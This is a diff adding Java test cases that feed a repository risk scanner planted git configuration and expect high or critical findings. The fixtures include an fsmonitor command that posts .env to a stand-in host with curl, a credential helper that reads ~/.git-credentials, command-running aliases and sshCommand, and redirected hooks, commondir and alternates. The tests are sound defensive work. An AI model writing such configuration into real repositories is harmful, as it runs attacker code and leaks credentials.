@@ -197,6 +197,58 @@ class RiskCorpusTest {
         cases.add(new Case("git-metadata: plain branch section in .git/config")
                 .after(root -> append(root, ".git/config", "[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n"))
                 .expect("git-config", HIGH, ".git/config"));
+        // git runs it, wherever the change puts it (issue 13)
+        cases.add(new Case("git-metadata: core.fsmonitor on the [core] header's own line")
+                .after(root -> append(root, ".git/config", "[core] fsmonitor = \"sh -c 'curl -d @.env https://x.example'\"\n"))
+                .expect("git-config", CRITICAL, ".git/config"));
+        cases.add(new Case("git-metadata: an upper-case key in an upper-case section")
+                .after(root -> append(root, ".git/config", "[CORE]\n\tHooksPath = .githooks-planted\n"))
+                .expect("git-config", CRITICAL, ".git/config"));
+        cases.add(new Case("git-metadata: a credential helper for one host")
+                .after(root -> append(root, ".git/config", "[credential \"https://github.com\"]\n\thelper = !f() { cat ~/.git-credentials; }; f\n"))
+                .expect("git-config", CRITICAL, ".git/config"));
+        cases.add(new Case("git-metadata: sshCommand continued over two lines")
+                .after(root -> replace(root, ".git/config", "\tbare = false\n", "\tbare = false\n\tsshCommand = ssh \\\n  -o ProxyCommand=id\n"))
+                .expect("git-config", CRITICAL, ".git/config"));
+        cases.add(new Case("git-metadata: the origin's URL moved")
+                .after(root -> replace(root, ".git/config", "https://github.com/example/app.git", "https://git.example.net/app.git"))
+                .expect("git-config", CRITICAL, ".git/config"));
+        cases.add(new Case("git-metadata: an include, and the hooks path set in the included file")
+                .after(root -> {
+                    append(root, ".git/config", "[include]\n\tpath = ../tools/git.cfg\n");
+                    write(root, "tools/git.cfg", "[core]\n\thooksPath = tools/hooks\n");
+                })
+                .expect("git-config", CRITICAL, ".git/config")
+                .expect("git-config", CRITICAL, "tools/git.cfg"));
+        cases.add(new Case("git-metadata: an alias added to a file the configuration already includes")
+                .before(root -> {
+                    append(root, ".git/config", "[includeIf \"onbranch:main\"]\n\tpath = ../.gitconfig.team\n");
+                    write(root, ".gitconfig.team", "[user]\n\tname = Team\n");
+                })
+                .after(root -> append(root, ".gitconfig.team", "[alias]\n\tco = !sh -c 'id > /tmp/pwned'\n"))
+                .expect("git-config", CRITICAL, ".gitconfig.team"));
+        cases.add(new Case("git-metadata: fsmonitor turned on (git's own, no program)")
+                .after(root -> replace(root, ".git/config", "\tbare = false\n", "\tbare = false\n\tfsmonitor = true\n"))
+                .expect("git-config", HIGH, ".git/config"));
+        cases.add(new Case("git-metadata: .git/commondir pointing at a planted config and hooks")
+                .after(root -> {
+                    write(root, ".git/commondir", "../.cache/common\n");
+                    write(root, ".cache/common/config", "[core]\n\tbare = false\n");
+                    write(root, ".cache/common/hooks/post-checkout", "id > /tmp/pwned\n");
+                })
+                .expect("git-indirection", CRITICAL, ".git/commondir"));
+        cases.add(new Case("git-metadata: objects borrowed from elsewhere")
+                .after(root -> write(root, ".git/objects/info/alternates", "/tmp/planted/objects\n"))
+                .expect("git-indirection", CRITICAL, ".git/objects/info/alternates"));
+        cases.add(new Case("git-metadata: .git replaced by a gitdir file")
+                .after(root -> {
+                    Trees.delete(root.resolve(".git"));
+                    write(root, ".git", "gitdir: /tmp/planted-repository\n");
+                })
+                .expect("git-file", CRITICAL, ".git")
+                // what the folder held is gone too
+                .expect("git-config", HIGH, ".git/config")
+                .expect("git-info-exclude", MEDIUM, ".git/info/exclude"));
         cases.add(new Case("git-metadata: .gitmodules added")
                 .after(root -> write(root, ".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.com/evil.git\n"))
                 .expect("git-modules", CRITICAL, ".gitmodules"));
